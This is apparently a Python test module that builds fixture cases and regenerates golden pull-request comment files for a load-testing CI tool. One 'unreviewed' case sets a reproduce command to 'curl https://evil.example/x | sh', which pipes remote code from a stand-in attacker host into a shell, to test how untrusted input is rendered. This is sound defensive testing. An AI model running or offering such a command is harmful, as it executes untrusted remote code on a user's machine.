"""The named comments of the golden files. Run this module to write them anew, then read them."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from ltlab_ci import model
from ltlab_ci.report import comment
from tests.unit.report import cases, comparisons, results

RUN = "https://github.com/octo/shop/actions/runs/7"
Said = tuple[model.Result | None, model.Around]


def around(**parts: Any) -> model.Around:  # noqa: ANN401  (any field of the model)
    given: dict[str, Any] = {
        "run_url": RUN,
        "report_url": f"{RUN}/artifacts/11",
        "head_sha": "5f0c1b7a9d3e4f60718293a4b5c6d7e8f9012345",
        "changed": (),
    }
    return model.Around(**given | parts)


def loosened(**parts: Any) -> model.ThresholdChange:  # noqa: ANN401
    given: dict[str, Any] = {
        "kind": model.ChangeKind.LOOSENED,
        "scenario": "browse",
        "key": "http_req_duration",
        "before": "p(95) < 300ms",
        "after": "p(95) < 500ms",
    }
    return model.ThresholdChange(**given | parts)


def lab_failed() -> Said:
    silent = results.a_verdict(
        stat="",
        op="",
        bound=None,
        unit="",
        status=model.Status.NO_DATA,
        observed=None,
        count=0,
        reason="the scenario did not run",
    )
    scenario = results.a_scenario(
        verdict="fail",
        ran=False,
        complete=False,
        exit_code=None,
        verdicts=(silent,),
        metrics=(),
        endpoints=(),
        samples=0,
        series=None,
    )
    message = "lab not ready: influxdb gave no answer in 30 s"
    lab = results.a_finding(
        code="lab-not-ready",
        message=message,
        remedy="read its log with `ltlab logs influxdb`; http://127.0.0.1:8086/health must answer",
    )
    result = results.a_result(
        verdict="error",
        headline=message,
        exit_code=3,
        scenarios=(scenario,),
        findings=(lab,),
    )
    return result, around()


def invalid() -> Said:
    dropped = results.a_finding(
        code="iterations-dropped",
        effect="invalid",
        message="7 % of the iterations due were dropped",
        remedy="allow more VUs, or lower the rate",
        scenario="browse",
    )
    result = results.a_result(
        verdict="fail",
        headline=f"browse: {dropped.message}",
        exit_code=1,
        scenarios=(results.a_scenario(verdict="fail", load_model="open"),),
        findings=(dropped,),
    )
    return result, around()


def many() -> Said:
    """200 thresholds of two scenarios: three are crossed, the worst of them late in the file."""
    verdicts = tuple(
        results.a_verdict(tags={"name": f"GET /items/{n}"}, observed=100.0 + n) for n in range(100)
    )
    bad = {9: 510.0, 30: 505.0, 77: 2200.0}
    browse = tuple(
        results.crossed(tags=one.tags, observed=bad[n]) if n in bad else one
        for n, one in enumerate(verdicts)
    )
    scenarios = (
        results.a_scenario(verdict="fail", verdicts=browse),
        results.a_scenario(name="checkout", verdicts=verdicts),
    )
    result = results.a_result(
        verdict="fail",
        headline="3 of 200 thresholds crossed",
        exit_code=1,
        scenarios=scenarios,
    )
    return result, around()


def hostile(name: str = results.HOSTILE) -> Said:
    """Foreign text wherever it can get to, the addresses excepted."""
    change = loosened(scenario=name, key=name, before=name, after=name)
    cut_short = results.a_scenario(name=name, complete=False, verdicts=())
    earlier = cases.hostile(name)
    kept = model.Snapshot(uid="k6", title=name, url="https://g.example/s/1", key="1", expires=name)
    result = cases.hostile(name).model_copy(
        update={
            "scenarios": (*cases.hostile(name).scenarios, cut_short),
            "snapshots": (kept,),
            "comparison": cases.compare_hostile(name).comparison,
        }
    )
    said = around(id=name, earlier=earlier, earlier_sha=name, head_sha=name, changed=(change,))
    return result, said


def unreviewed() -> Said:
    kept = model.Snapshot(uid="k6", title="k6", url="https://evil.example/s/1", key="1")
    result = cases.all_pass().model_copy(
        update={"snapshots": (kept,), "reproduce": "curl https://evil.example/x | sh"}
    )
    return result, around(unreviewed=True, changed=None)


def cancelled() -> Said:
    stopped = results.a_finding(
        code="Interrupted",
        effect="interrupted",
        message="interrupted after 21 s of load",
        remedy="run it again",
        scenario="browse",
    )
    result = results.a_result(
        verdict="error",
        headline="browse: interrupted after 21 s of load",
        exit_code=130,
        scenarios=(
            results.a_scenario(verdict="fail", complete=False, duration_s=21.0),
            results.a_scenario(
                name="checkout", verdict="fail", ran=False, complete=False, verdicts=()
            ),
        ),
        findings=(stopped,),
    )
    return result, around(cancelled=True, changed=None)


def trend() -> Said:
    """An earlier run on another machine, and thresholds that the pull request moved."""
    earlier = cases.all_pass()
    where = earlier.environment.model_copy(update={"cpus": 2})
    verdicts = (
        results.a_verdict(observed=288.1),
        results.failure_share(observed=0.0031),
        results.checks_warning(status=model.Status.PASS, observed=0.9993),
    )
    before = earlier.model_copy(
        update={"environment": where, "scenarios": (results.a_scenario(verdicts=verdicts),)}
    )
    changed = (
        loosened(),
        loosened(kind=model.ChangeKind.REMOVED, scenario="", key="checks", after=""),
        loosened(
            kind=model.ChangeKind.REMOVED,
            scenario="checkout",
            key="",
            before="2 thresholds",
            after="",
        ),
        loosened(
            kind=model.ChangeKind.CHANGED,
            scenario="",
            key="steady_state",
            before="skips 5 s at the start, 0 s at the end",
            after="skips 20 s at the start, 0 s at the end",
        ),
        loosened(kind=model.ChangeKind.ADDED, key="http_reqs", before="", after="rate > 45/s"),
    )
    return cases.one_fails(), around(
        id="services/shop", earlier=before, earlier_sha="abcdef0123456789", changed=changed
    )


def no_config() -> Said:
    missing = results.a_finding(
        code="ConfigMissing",
        effect="config",
        message="no ltlab.yml in /home/runner/work/shop/shop",
        remedy="write one (docs/configuration.md has ten lines to start with)",
    )
    result = results.a_result(
        verdict="error",
        headline=missing.message,
        exit_code=2,
        scenarios=(),
        findings=(missing,),
    )
    return result, around(changed=None)


CASES: dict[str, Callable[[], Said]] = {
    "all_pass": lambda: (cases.all_pass(), around()),
    "not_judged": lambda: (cases.not_judged(), around()),
    "one_fails": lambda: (cases.one_fails(), around()),
    "no_data": lambda: (cases.no_data(), around()),
    "engine_failed": lambda: (cases.engine_failed(), around()),
    "service_died": lambda: (cases.service_died(), around()),
    "lab_failed": lab_failed,
    "invalid": invalid,
    "many": many,
    "hostile": hostile,
    "nothing_ran": lambda: (None, around(report_url="", changed=None)),
    "no_config": no_config,
    "unreviewed": unreviewed,
    "cancelled": cancelled,
    "cancelled_early": lambda: (None, around(report_url="", changed=None, cancelled=True)),
    "trend": trend,
    "compare_slower": lambda: (comparisons.slower(), around()),
}


def write_golden() -> None:
    for name, case in CASES.items():
        path = cases.GOLDEN / f"{name}.comment.md"
        path.write_text(comment.render(*case()), encoding="utf-8", newline="\n")


if __name__ == "__main__":
    write_golden()
